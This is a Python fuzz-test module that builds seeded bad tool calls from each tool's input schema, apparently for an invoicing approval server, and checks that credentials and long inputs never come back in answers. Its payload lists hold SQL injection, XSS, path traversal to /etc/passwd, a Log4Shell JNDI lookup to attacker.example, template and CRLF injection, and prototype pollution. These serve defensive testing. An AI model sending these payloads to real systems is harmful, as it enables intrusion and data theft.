"""The fuzz scenario's bad inputs: a deterministic list of tool calls (seeded, so a failure replays exactly)
built from each tool's own input schema, so every tool and every argument is covered, including any added
later.

Each argument gets values of its own kind (ids huge, negative, fractional, written as text; dates out of
range, impossible, with time-zone junk; enum words that are not in the enum; lists too long or of the wrong
things) and a share, round-robin, of the general ones (wrong types, nulls, nested objects, 10 kB and 1 MB
strings, injection strings, unicode, the server's own credentials). Each tool also gets calls with unknown
arguments, without its required ones, with everything null, and real (not dry-run) calls with an approval
that does not exist. A call's ``guarded`` strings must never come back in its answer.
"""

from __future__ import annotations

import random
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

__all__ = ["SEED", "BadCall", "bad_calls", "guarded_strings"]

SEED = 20_260_901

TEN_KB = "x" * 10_000
ONE_MB = "Z" * (1 << 20)
DIGITS_10_KB = "9" * 10_000

WRONG_TYPES: tuple[Any, ...] = (
    None,
    True,
    False,
    1.5,
    -0.0,
    1e308,
    float("inf"),
    float("nan"),
    [],
    [1, 2, 3],
    {},
    {"$gt": 0},
    {"nested": {"deeper": [1, {"id": None}]}},
    "",
    " ",
    "null",
    "[1, 2]",
    '{"id": 1}',
    "true",
    "[" * 20_000,
    [[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]],
)
LONG_STRINGS: tuple[str, ...] = (TEN_KB, ONE_MB, DIGITS_10_KB, "é" * 6_000, "apr_" + "Z" * 10_000)
INJECTIONS: tuple[str, ...] = (
    "' OR 1=1 --",
    "1' OR '1'='1",
    '1" OR Id > "0',
    "1; DROP TABLE invoices; --",
    "1) or (id>0",
    "Id IN ('1','2')",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "{0}{1}{__class__}",
    "%s%s%s%n%x",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
    "line one\nline two\r\nApproved: yes",
    "NUL\x00byte",
    "apr_ZZZZZZ' OR 1=1",
)
UNICODE: tuple[str, ...] = (
    "\u202eevil\u202c",
    "🧾💸🔥",
    "e\u0301\u0301\u0301\u0301",
    "\ud800",
    "\udfff\ud800",
    "\ufeff123",
    "١٢٣",
    "１２３",
    "Z̷̨͚̈́a̸͙l̵g̴o̷",
    "\u2028line\u2029",
    "apr_７Ｋ２Ｍ９Ｑ",
)
IDS: tuple[Any, ...] = (
    0,
    -1,
    -(2**63),
    2**31,
    2**63,
    10**30,
    "12abc",
    "0x1F",
    "1e3",
    " 7 ",
    1.0000001,
    DIGITS_10_KB,
)
DATES: tuple[Any, ...] = (
    "0001-01-01",
    "9999-12-31",
    "1899-12-31",
    "2101-01-01",
    "2026-02-30",
    "2026-13-01",
    "2026-00-10",
    "2026-11-01T25:00:00Z",
    "2026-11-01T00:00:00+99:00",
    "2026-11-01T12:00:00+14:00",
    "2026-11-01T00:00:00 PST",
    "2026/11/01",
    "01/11/2026",
    "+002026-11-01",
    "-0001-01-01",
    "2026-W44-1",
    "2026-11-01\x00",
    "now",
    0,
    1_700_000_000,
    10**20,
)
ENUM_WORDS: tuple[Any, ...] = ("BOTH", "both ", "", "sideways", "time_activity;drop", 0, ["both"])
LISTS: tuple[Any, ...] = (
    [1] * 100_000,
    list(range(1, 5_002)),
    ["x"] * 5_000,
    [0] * 4_999,
    [2**31, 1],
    [0],
    ["1", "2"],
    [None],
    [[1]],
    [{"id": 1}],
    ["client"] * 50,
    ["draft", "sent", "viewed", "paid", "void", "void"],
    "[1,2,3]",
)
BOOLS: tuple[Any, ...] = ("yes", "maybe", 2, -1, "TRUE ", [True], {"value": True})


@dataclass(frozen=True)
class BadCall:
    """One call of the fuzz: a tool, its arguments, and what kind of bad input it carries."""

    tool: str
    arguments: Mapping[str, Any]
    label: str
    guarded: tuple[str, ...] = field(default=())


def guarded_strings(value: Any, secrets: Sequence[str]) -> tuple[str, ...]:
    """What must never come back: the long strings in ``value`` (64 characters or more: an answer quoting
    them would carry whatever the caller stuffed in) and the server's credentials."""
    found: list[str] = []

    def walk(item: Any) -> None:
        if isinstance(item, str) and len(item) >= 64:
            found.append(item[:64])
        elif isinstance(item, Mapping):
            for inner in item.values():
                walk(inner)
        elif isinstance(item, list):
            for inner in item[:100]:
                walk(inner)

    walk(value)
    return (*dict.fromkeys(found), *secrets)


def _kind(schema: Mapping[str, Any]) -> str:
    options = [option for option in schema.get("anyOf", [schema]) if option.get("type") != "null"]
    first = options[0] if options else {}
    if "enum" in first:
        return "enum"
    kind = str(first.get("type"))
    if kind == "string" and first.get("format") == "date":
        return "date"
    return kind


def _own_values(kind: str) -> tuple[Any, ...]:
    return {
        "integer": IDS,
        "date": DATES,
        "string": INJECTIONS[:8] + UNICODE[:6],
        "enum": ENUM_WORDS,
        "array": LISTS,
        "boolean": BOOLS,
    }.get(kind, WRONG_TYPES)


def bad_calls(
    tools: Mapping[str, Mapping[str, Any]],
    base: Mapping[str, Mapping[str, Any]],
    secrets: Sequence[str],
    *,
    seed: int = SEED,
    per_argument: int = 5,
) -> list[BadCall]:
    """The fuzz's calls for ``tools`` (name → input schema), each built on ``base`` (name → arguments a
    dry run accepts); ``secrets``: the server's credentials, passed as arguments too and guarded."""
    rng = random.Random(seed)
    general = [*WRONG_TYPES, *LONG_STRINGS, *INJECTIONS, *UNICODE, *secrets, *(s.upper() for s in secrets)]
    rng.shuffle(general)
    shared = _cycle(general)
    calls: list[BadCall] = []
    for tool in sorted(tools):
        schema = tools[tool]
        properties: Mapping[str, Any] = schema.get("properties") or {}
        required = list(schema.get("required") or ())
        start = dict(base.get(tool, {}))
        for name in sorted(properties):
            kind = _kind(properties[name])
            own = list(_own_values(kind))
            values = [*rng.sample(own, min(per_argument, len(own))), next(shared), next(shared)]
            for value in values:
                arguments = {**start, name: value}
                calls.append(BadCall(tool, arguments, f"{name}:{kind}", guarded_strings(arguments, secrets)))
        extras = {
            **start,
            "unknown_argument": next(shared),
            "__proto__": {"polluted": True},
            f"{next(iter(properties), 'x')} ": 1,
        }
        calls.append(BadCall(tool, extras, "unknown arguments", guarded_strings(extras, secrets)))
        calls.append(BadCall(tool, dict.fromkeys(properties), "every argument null"))
        if required:
            calls.append(BadCall(tool, {}, "required arguments missing"))
            kept = {key: value for key, value in start.items() if key != required[0]}
            calls.append(BadCall(tool, kept, f"{required[0]} missing"))
        if "approval_id" in properties:
            real = {**start, "dry_run": False, "approval_id": "apr_ZZZZZZ"}
            calls.append(BadCall(tool, real, "not a dry run, an approval that does not exist"))
            secret = {**start, "dry_run": False, "approval_id": rng.choice(list(secrets))}
            calls.append(
                BadCall(tool, secret, "a credential as approval_id", guarded_strings(secret, secrets))
            )
    for name in ("sync_everything", "approve", "sync_invoice ", "x" * 10_000):
        calls.append(BadCall(name, {}, "no such tool", guarded_strings({"name": name}, secrets)))
    return calls


def _cycle(values: Sequence[Any]) -> Iterator[Any]:
    while True:
        yield from values
